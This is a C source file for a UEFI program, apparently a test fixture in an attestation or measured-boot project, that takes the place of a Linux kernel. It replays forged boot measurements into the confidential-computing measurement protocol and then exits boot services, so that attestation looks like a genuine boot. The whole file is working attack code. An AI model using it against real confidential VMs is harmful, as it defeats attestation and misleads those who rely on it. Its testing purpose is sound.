/*
 * Attack: a host's program in the place of the kernel, which something started without measuring it. It measures what a genuine
 * boot would have measured, through the public protocol, and leaves boot services; a host would then start its own kernel.
 *
 * GRUB with Secure Boot off starts it as a PE file, at efi_main. OVMF's legacy loader starts it as a bzImage without an MZ
 * header, at handover (tests/src/scenarios/forge.rs makes that file).
 *
 * Its "initrd" is the list of those measurements: for each the register, the protocol's flags and the length (4 bytes each,
 * little-endian), then the hashed bytes, up to a multiple of 4.
 */
#include "uefi.h"

enum { MAP_BYTES = 64 << 10, EVENT_BYTES = 18, EVENT_HEADER_BYTES = 14 };

/* The device path at which boot loaders offer an initrd (Linux: LINUX_EFI_INITRD_MEDIA_GUID), and its end. */
static const u8 initrd_path[] = {
	4, 3, 20, 0, 0x27, 0xe4, 0x68, 0x55, 0xfc, 0x68, 0x3d, 0x4f, 0xac, 0x74, 0xca, 0x55, 0x52, 0x31, 0xcc, 0x68,
	0x7f, 0xff, 4, 0,
};

static status load_list(boot_services *boot, const u8 **list, u64 *bytes)
{
	static const guid load_file2 = LOAD_FILE2_GUID;
	const void *path = initrd_path;
	load_file2_protocol *loader;
	void *handle;
	u64 address = 0;
	status bad = boot->locate_device_path(&load_file2, &path, &handle);

	if (!bad)
		bad = boot->handle_protocol(handle, &load_file2, (void **)&loader);
	if (bad)
		return bad;
	*bytes = 0;
	loader->load(loader, path, 0, bytes, 0); /* says how long it is */
	bad = boot->allocate_pages(ALLOCATE_ANY_PAGES, MEMORY_LOADER_DATA, *bytes / PAGE_BYTES + 1, &address);
	*list = (const u8 *)address;
	return bad ? bad : loader->load(loader, path, 0, bytes, (void *)address);
}

static status forge(boot_services *boot, void *image, const u8 *list, u64 list_bytes)
{
	static const guid cc_measurement = CC_MEASUREMENT_GUID;
	static u8 map[MAP_BYTES];
	cc_protocol *protocol;
	u64 map_bytes = sizeof(map), key, descriptor_bytes;
	u32 version;
	status bad = boot->locate_protocol(&cc_measurement, 0, (void **)&protocol);

	if (bad)
		return bad;
	for (const u8 *at = list; at + 12 <= list + list_bytes;) {
		const u32 *head = (const u32 *)at;
		cc_event event = { EVENT_BYTES, EVENT_HEADER_BYTES, 1, head[0], EV_IPL };

		protocol->hash_log_extend(protocol, head[1], (u64)(at + 12), head[2], &event);
		at += 12 + (head[2] + 3) / 4 * 4;
	}
	bad = boot->get_memory_map(&map_bytes, map, &key, &descriptor_bytes, &version);
	if (!bad)
		bad = boot->exit_boot_services(image, key);
	if (bad)
		return bad;
	for (;;)
		__asm__ volatile("cli; hlt");
}

status efi_main(void *image, system_table *system)
{
	const u8 *list;
	u64 bytes;
	status bad = load_list(system->boot, &list, &bytes);

	return bad ? bad : forge(system->boot, image, list, bytes);
}

/* The entry of Linux's EFI handover protocol, and where its boot parameters say what the initrd is. */
enum { RAMDISK_IMAGE = 0x218, RAMDISK_SIZE = 0x21c };

__attribute__((sysv_abi, section(".text.first"))) void handover(void *image, system_table *system, const u8 *parameters)
{
	u64 list = *(const u32 *)(parameters + RAMDISK_IMAGE);

	forge(system->boot, image, (const u8 *)list, *(const u32 *)(parameters + RAMDISK_SIZE));
}
